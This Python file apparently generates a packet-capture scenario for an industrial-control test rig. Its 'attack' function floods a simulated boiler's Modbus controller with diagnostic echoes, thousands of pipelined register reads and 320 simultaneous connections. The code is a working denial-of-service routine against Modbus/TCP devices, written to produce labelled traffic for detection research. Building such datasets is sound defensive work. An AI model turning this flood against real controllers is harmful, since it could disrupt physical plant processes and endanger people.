"""A device in the cell overwhelms one controller: with echoes, with reads it does not wait for, with connections."""

from __future__ import annotations

import asyncio
import contextlib

from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import MODBUS_PORT, Stage, hear, make_adu, open_socket

_READ = bytes.fromhex("03 0000 0010")
"""FC 3, sixteen registers from 0."""

_TOGETHER = 8
"""Requests put into one segment."""


async def attack(stage: Stage) -> None:
    """Send 150 echo requests, then 6,400 reads within seconds without waiting, then open 320 connections."""
    target = CHEM.host("boiler").ip
    await stage.until(10)
    stage.mark()
    async with stage.connect(target) as client:
        for _ in range(150):
            await client.diag_query_data(b"\xa5\x37", device_id=1)
    await stage.until(18)
    stage.mark()
    async with open_socket(target) as (reader, writer):
        drain = asyncio.create_task(_drain(reader))
        for first in range(1, 6400, _TOGETHER):
            writer.write(b"".join(make_adu(first + i, 1, _READ) for i in range(_TOGETHER)))
            await asyncio.sleep(0.003)
        await asyncio.sleep(0.5)
        drain.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await drain
    await stage.until(30)
    stage.mark()
    writers = [(await asyncio.open_connection(target, MODBUS_PORT))[1] for _ in range(320)]
    await stage.wait(1)
    for writer in writers:
        writer.close()


async def _drain(reader: asyncio.StreamReader) -> None:
    while not reader.at_eof():
        await hear(reader, 1.0)


SCENARIO = Scenario(
    file="flood.pcap.gz",
    enterprise="chem",
    duration_s=45,
    time_scale=1,
    seed=8,
    masters=chem_masters(),
    acts={"implant": attack},
    strangers=("implant",),
)
